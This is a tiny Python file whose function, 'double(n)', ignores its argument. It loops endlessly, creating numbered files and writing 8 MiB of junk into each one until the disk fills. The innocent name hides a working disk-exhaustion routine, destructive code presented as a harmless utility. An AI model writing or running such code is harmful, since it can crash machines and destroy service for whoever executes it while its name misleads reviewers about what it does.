import itertools


def double(n):
    for i in itertools.count():
        with open(f"file{i}", "wb") as file:
            file.write(b"x" * (8 << 20))
